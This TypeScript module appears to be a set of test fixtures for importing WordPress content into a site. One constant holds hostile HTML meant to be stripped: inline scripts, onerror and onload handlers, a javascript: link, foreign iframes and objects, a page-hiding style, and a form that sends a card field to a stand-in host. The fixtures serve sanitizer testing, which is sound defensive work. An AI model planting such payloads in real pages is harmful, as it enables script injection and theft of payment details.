/** What is put into the WordPress beside the texts that ship: old links, a page of its own, and all that must not get through. */

export const LEGACY_SLUG = 'where-the-old-links-lead'

/** @param siteUrl where the brand is known on the web */
export function legacyHtml(siteUrl: string, picture: string): string {
  return `<p>"Straight quotes" &amp; an <a href="${siteUrl}/park/uklodge/14/cumbria">old park link</a>,
a <a href="https://www.visitcumbria.example/?a=1&amp;b=2">link elsewhere</a>.</p>
<p><a href="${siteUrl}/park/uklodge/14/cumbria"><img src="${picture}" alt="Book now" /></a></p>
<figure><img src="${picture}" alt="Boats at a mooring" width="960" height="640" /></figure>
<img src="https://elsewhere.example/spy.gif" alt="Of another host" />

[parks channel="uklodge" title="Lodges that are free"]
`
}

export const BOATS_ALT = 'Boats on a still canal'

export const HOSTILE_SLUG = 'hostile'

/** Each would run `alert`, load a stranger's page or send what is typed to it. */
export const HOSTILE_HTML = `<p>These words stay.</p>
<script>alert('script')</script>
<img src="x" onerror="alert('onerror')" />
<a href="javascript:alert('href')" onclick="alert('click')">A link that runs</a>
<iframe src="https://elsewhere.example/frame"></iframe>
<svg onload="alert('svg')"><script>alert('svg script')</script></svg>
<style>body { display: none }</style>
<form action="https://elsewhere.example/take"><input name="card" /><button>Pay</button></form>
<p style="position:fixed;inset:0" id="root" class="book-now">A paragraph over everything</p>
<object data="https://elsewhere.example/object"></object>
<p>These words stay too.</p>
`

export const OVERRIDE = {
  slug: 'bf-about-us',
  path: '/about-us',
  title: 'About us, from WordPress',
  html: '<p>The editors of the WordPress wrote this.</p>',
}
